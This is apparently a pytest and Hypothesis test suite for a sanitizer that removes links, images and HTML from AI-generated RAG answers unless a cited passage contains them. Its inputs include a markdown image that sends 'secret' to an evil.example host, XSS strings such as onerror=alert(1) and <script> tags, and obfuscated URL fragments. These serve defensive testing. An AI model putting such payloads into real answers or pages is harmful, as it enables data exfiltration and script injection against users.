"""What an answer may carry: plain text, and links only as its cited passages hold them."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.markup import REMOVED, Plain, plain
from tests.rendered import elements, followed

PASSAGE = (
    "See [Travel](travel.md) or https://corp.example/handbook?page=2 and ask hr@corp.example or corp-travel.com."
    " Use <div> and List<String>, &nbsp; and <img src=https://corp.example/logo.png onerror=alert(1)>"
    " <script>go()</script>"
    " ![logo](https://corp.example/logo.png)"
)


def shown(text: str) -> str:
    judged = plain(text, [PASSAGE])
    assert judged is not None
    return judged.text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?d=secret)", f"x {REMOVED}"),
        ("![x](pixel.png)", "x (pixel.png)"),
        ("[log out](/logout)", "log out (/logout)"),
        ('[x](https://evil.example "title")', f"x {REMOVED}"),
        ("[x](<https://evil.example>)", f"x {REMOVED}"),
        ("[1](https://evil.example)", f"[1] {REMOVED}"),
        ("[a [b](u)](u)", "[a b (u)] (u)"),
        ("[x][1]\n\n[1]: https://evil.example", f"[x][1]\n\n[1] {REMOVED}"),
        ("[1]: /logout", "[1] /logout"),
        ("> - [y]: /logout", "> - [y] /logout"),
        ("1. > [y]: /logout", "1. > [y] /logout"),
        (r"[a\]b]: /logout", r"[a\]b] /logout"),
        ("- [x] [1]\n1. > [ ] b", "- (x) [1]\n1. > ( ) b"),
        ("<https://evil.example>", REMOVED),
        ("<someone@evil.example>", REMOVED),
        ('<a href="https://evil.example">click</a>', "click"),
        ("<IMG SRC=//evil.example/x>", ""),
        ("<b>bold</b>", "bold"),
        ("<<b>script></b>", "< script>"),
        ("<img src=x onerror=alert(1)", "< img src=x onerror=alert(1)"),
        ("<!-- x -->", "< !-- x -->"),
        ("a <b and c> d", "a < b and c> d"),
        ("Visit evil.com, www.evil.example or mail x@evil.example.", f"Visit {REMOVED}, {REMOVED} or mail {REMOVED}."),
        ("&#104;ttps:&#47;&#47;x &lt;img&gt;", "& #104;ttps:& #47;& #47;x & lt;img& gt;"),
        ("It is paid apart.It is not.", "It is paid apart. It is not."),
    ],
)
def test_what_no_passage_holds_goes(text: str, left: str) -> None:
    assert shown(text) == left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See [Travel](travel.md).", "See Travel (travel.md)."),
        ("See https://corp.example/handbook?page=2.", "See https://corp.example/handbook?page=2."),
        ("See <https://corp.example/handbook?page=2>", "See https://corp.example/handbook?page=2"),
        ("[Handbook](https://corp.example/handbook?page=2)", "Handbook (https://corp.example/handbook?page=2)"),
        ("See corp.example/handbook?page=2 at corp.example", "See corp.example/handbook?page=2 at corp.example"),
        ("Ask HR@corp.example or Corp-Travel.com", "Ask HR@corp.example or Corp-Travel.com"),
        ("Use <div>, List<String> and &nbsp;", "Use <div>, List<String> and &nbsp;"),
    ],
)
def test_what_a_cited_passage_holds_stays_as_text(text: str, left: str) -> None:
    assert plain(text, [PASSAGE]) == Plain(left, 0)


@pytest.mark.parametrize(
    "text",
    [
        "Use List< String> and AT&T; as R&D; say.",
        "README.md says: run main.py. Network 10.0.0.0/8, port 127.0.0.1:8080.",
        "It costs 10\u00a0000\u00a0\u20ac, i.e. 3.5 % of v1.2.3.",
        "The call a[0] is [sic] a marker [1][2], Node.js is none.",
        "\u8cbb\u7528\u306f180\u30e6\u30fc\u30ed\u3067\u3059\u3002AI\u306f\u6b21\u306e\u65e5\u3002",
        '(see https://corp.example/handbook?page=2), *hr@corp.example*, "corp-travel.com".',
    ],
)
def test_what_is_plain_text_already_stays(text: str) -> None:
    assert plain(text, [PASSAGE]) == Plain(text, 0)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("Write vector<int> or Map<K, V>, or a<b>c.", "Write vector< int> or Map< K, V>, or a< b>c."),
        ("Call a[0](x), f[i](j), [see](below).", "Call a[0] (x), f[i] (j), see (below)."),
        ("Use model.to(device), user.name and ASP.NET.", "Use model. to(device), user. name and ASP. NET."),
        ("Mail:hr@corp.example", "Mail: hr@corp.example"),
    ],
)
def test_no_word_of_an_honest_answer_is_lost(text: str, left: str) -> None:
    assert plain(text, [PASSAGE]) == Plain(left, 0)


ATTACHED = (
    '"S"', "{S}", "|S", "`S", "[S]", "((S))", "(x(S))", ")S", "]S", ">S", "}S", "\u300cS", "\u3010S", "\u00a0S",
    "\u3000S", "\u2003S", '."S', "\u3002S", ")))))))))", "\U0001f525",
)  # fmt: skip


@pytest.mark.parametrize("attached", ATTACHED, ids=ascii)
@pytest.mark.parametrize(
    "address", ["https://corp.example/handbook?page=2", "corp.example/handbook?page=2", "hr@corp.example"]
)
def test_nothing_is_attached_to_a_passage_s_address(address: str, attached: str) -> None:
    left = followed(shown(f"See {address}{attached} now"))
    assert left <= {address, "corp.example"}


@pytest.mark.parametrize("attached", ["S=", "S~", "S|", "S@", 'S"', "@S@", "S:", "S\u20ac."], ids=ascii)
@pytest.mark.parametrize("address", ["corp-travel.com", "hr@corp.example"])
def test_nothing_is_put_before_a_passage_s_address(address: str, attached: str) -> None:
    left = shown(f"See {attached}{address} now")
    assert address not in left or f" {address} " in left


def test_an_image_of_a_passage_is_text_as_well() -> None:
    assert shown("![logo](https://corp.example/logo.png)") == "logo (https://corp.example/logo.png)"


def test_an_element_of_a_passage_that_acts_is_text_as_well() -> None:
    assert shown("<script>go()</script>") == "< script>go()< /script>"
    assert shown("<img src=https://corp.example/logo.png onerror=alert(1)>").startswith("< img ")


@pytest.mark.parametrize(
    "address",
    [
        "https://corp.example/handbook?page=2&d=secret",
        "https://corp.example/handbook?page=2#secret",
        "https://corp.example/handbook",
        "https://secret.corp.example/handbook?page=2",
        "https://corp.example/HANDBOOK?page=2",
        "secret@corp.example",
        "hr@secret.corp.example",
    ],
)
def test_a_passage_s_address_with_anything_else_in_it_goes(address: str) -> None:
    assert shown(f"See {address} now") == f"See {REMOVED} now"


PIECES = """
    https:// http: SECRET.evil.com evil.com /SECRET www. // : [ ] ( ) ! < > a & #1; &amp; . @ x@y.zz javascript:
    data:a/b, [1] [2] ]( ]: \\ \\] / ?d=1 secret travel.md https://corp.example/handbook?page=2 corp.example
    hr@corp.example corp-travel.com <script> <b> </b> <svg/onload= %3a%2f%2f \uff0e \u2024 \uff20 \uff0f \u3002 com [.]
    (dot) " ` = { } | ~ * _ - 1. ```
"""
HOSTILE = st.lists(
    st.sampled_from([*PIECES.split(), " ", "\n", "\u00a0", "> ", "- ", "img src=", "[x] "]), max_size=30
).map("".join)
CITED = {  # what PASSAGE holds, and what may be said of it
    "https://corp.example/handbook?page=2", "corp.example/handbook?page=2", "corp.example", "hr@corp.example",
    "corp-travel.com", "https://corp.example/logo.png", "corp.example/logo.png",
}  # fmt: skip


@given(HOSTILE | st.text(max_size=60))
@settings(max_examples=500)
def test_nothing_is_left_that_would_be_followed_or_loaded(text: str) -> None:
    judged = plain(text, [PASSAGE])
    if judged is None:
        return
    assert {address for address in followed(judged.text) if address.lower() not in CITED} == set()
    assert elements(judged.text) <= {"div", "string"}


@given(HOSTILE | st.text(max_size=60))
def test_what_was_judged_once_stays_as_it_is(text: str) -> None:
    judged = plain(text, [PASSAGE])
    assert judged is None or plain(judged.text, [PASSAGE]) == Plain(judged.text, 0)


@given(
    st.lists(st.sampled_from(["A is so [1].", "B, too [2][3].", "See https://evil.com [1].", "![x](y)[2]"]), max_size=8)
)
def test_markers_stay(sentences: list[str]) -> None:
    text = "\n".join(sentences)
    assert re.findall(r"\[\d\]", shown(text)) == re.findall(r"\[\d\]", text)


@given(HOSTILE)
def test_few_texts_resist(text: str) -> None:
    assert plain(text, [PASSAGE]) is not None
